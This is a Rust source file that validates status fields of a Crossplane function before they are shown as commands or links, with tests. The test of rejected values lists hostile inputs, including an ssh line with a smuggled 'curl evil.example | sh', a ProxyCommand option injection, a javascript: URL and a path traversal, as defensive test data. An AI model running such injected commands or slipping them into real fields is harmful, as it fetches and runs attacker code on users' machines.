//! The forms of the status fields that are shown as a line to copy or to open.
//!
//! Crossplane's own `edit` role can write the status. A field in another form is left out. Fields
//! that commands read are checked where they are read, with an error that names the field.

use std::net::IpAddr;

use serde_json::Value;

/// Whether a text has a form.
type Form = fn(&str) -> bool;

/// The forms of fields, by their names.
const FORMS: [(&str, Form); 4] = [
    ("backendUrl", is_url),
    ("bucketUrl", is_bucket_url),
    ("connection", is_connection),
    ("frontendUrl", is_url),
];

/// Whether the value of a status field has the form of the field, or the field has no form.
pub(super) fn is_valid(field: &str, value: &Value) -> bool {
    match (value, FORMS.iter().find(|(name, _)| *name == field)) {
        (Value::String(text), Some((_, has_form))) => has_form(text),
        (_, Some(_)) => false,
        (_, None) => true,
    }
}

fn is_made_of(text: &str, more: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text.chars().all(|c| c.is_ascii_alphanumeric() || more.contains(c))
}

fn is_word(text: &str) -> bool {
    is_made_of(text, "-")
}

/// A name of a bucket.
fn is_name(text: &str) -> bool {
    is_made_of(text, "-._")
}

fn is_address(text: &str) -> bool {
    text.parse::<IpAddr>().is_ok()
}

fn is_host(text: &str) -> bool {
    is_address(text) || is_made_of(text, "-.")
}

fn is_bucket_url(text: &str) -> bool {
    text.strip_prefix("gs://").is_some_and(is_name)
}

/// A URL with a host, without a user and a query.
fn is_url(text: &str) -> bool {
    let Some(rest) = text.strip_prefix("https://").or_else(|| text.strip_prefix("http://")) else {
        return false;
    };
    let (place, path) = rest.split_once('/').unwrap_or((rest, ""));
    let host = match place.rsplit_once(':') {
        Some((host, port)) if port.parse::<u16>().is_ok() => host,
        _ => place,
    };
    let v6 = host.strip_prefix('[').and_then(|host| host.strip_suffix(']'));
    v6.map_or_else(|| is_host(host), is_address) && (path.is_empty() || is_made_of(path, "-._~/"))
}

/// The commands that the function writes: by SSH, and through a session of AWS Systems Manager.
fn is_connection(text: &str) -> bool {
    match text.split(' ').collect::<Vec<_>>().as_slice() {
        ["ssh", target] => target
            .split_once('@')
            .is_some_and(|(user, address)| is_word(user) && is_address(address)),
        ["aws", "ssm", "start-session", "--target", id, "--region", region] => {
            is_word(id) && is_word(region)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use std::collections::BTreeSet;

    use function_paved_road::apis::{self, Flavour};
    use function_paved_road::manifests;
    use function_paved_road::status::is_common;
    use serde_json::json;

    use super::{FORMS, is_valid};

    /// Fields that `paved connect` and `paved publish` check, because they make a command, a host or
    /// a path of them.
    const CHECKED: [&str; 9] = [
        "endpoint",
        "frontendBucketName",
        "frontendDistributionId",
        "gkeEndpoint",
        "instanceId",
        "ipv6Address",
        "publicIp",
        "region",
        "type",
    ];

    /// Fields that are shown as text only.
    const PLAIN: [&str; 9] = [
        "databaseHost",
        "dbAddress",
        "dbEndpoint",
        "frontendFilesOnDeletion",
        "frontendMissingFiles",
        "lastSyncTime",
        "machine",
        "privateIp",
        "url",
    ];

    #[test]
    fn every_status_field_of_text_has_a_form_is_checked_or_is_plain() {
        let mut found = BTreeSet::new();
        for api in apis::APIS {
            let xrd = manifests::xrd(*api, Flavour::Namespaced, "example.org");
            let status = xrd.pointer("/spec/versions/0/schema/openAPIV3Schema/properties/status");
            let fields = status.unwrap()["properties"].as_object().unwrap();
            let texts = fields
                .iter()
                .filter(|(name, schema)| schema["type"] == "string" && !is_common(name));
            found.extend(texts.map(|(name, _)| name.clone()));
        }
        let known: BTreeSet<String> = FORMS
            .iter()
            .map(|(name, _)| *name)
            .chain(CHECKED)
            .chain(PLAIN)
            .map(str::to_owned)
            .collect();
        assert_eq!(found, known);
    }

    #[test]
    fn values_of_the_function_have_the_form() {
        for (field, value) in [
            ("backendUrl", "http://shop.team.svc.cluster.local:80"),
            ("backendUrl", "https://shop.example.org/api"),
            ("bucketUrl", "gs://ada-5f2c1"),
            ("connection", "ssh developer@203.0.113.7"),
            ("connection", "ssh developer@2001:db8::7"),
            ("connection", "aws ssm start-session --target i-0abc --region us-east-1"),
            ("frontendUrl", "https://[2001:db8::7]:6443"),
            ("machine", "1 x T4, 16 GiB; 4 vCPU"),
        ] {
            assert!(is_valid(field, &json!(value)), "{field}: {value}");
        }
        assert!(is_valid("available", &json!(2)));
    }

    #[test]
    fn forged_value_is_left_out() {
        for (field, value) in [
            ("connection", "ssh developer@203.0.113.7; curl evil.example | sh"),
            ("connection", "ssh -oProxyCommand=x@203.0.113.7"),
            ("connection", "ssh developer@evil.example"),
            ("connection", "ssh  developer@203.0.113.7"),
            ("connection", "curl evil.example"),
            ("connection", "aws ssm start-session --target i-1 --region a --endpoint-url http://e"),
            ("frontendUrl", "javascript:alert(1)"),
            ("frontendUrl", "https://user@evil.example"),
            ("frontendUrl", "https://evil.example/?.s3.amazonaws.com"),
            ("bucketUrl", "gs://a/../b"),
        ] {
            assert!(!is_valid(field, &json!(value)), "{field}: {value}");
        }
        assert!(!is_valid("connection", &json!({"ssh": "x"})));
    }
}
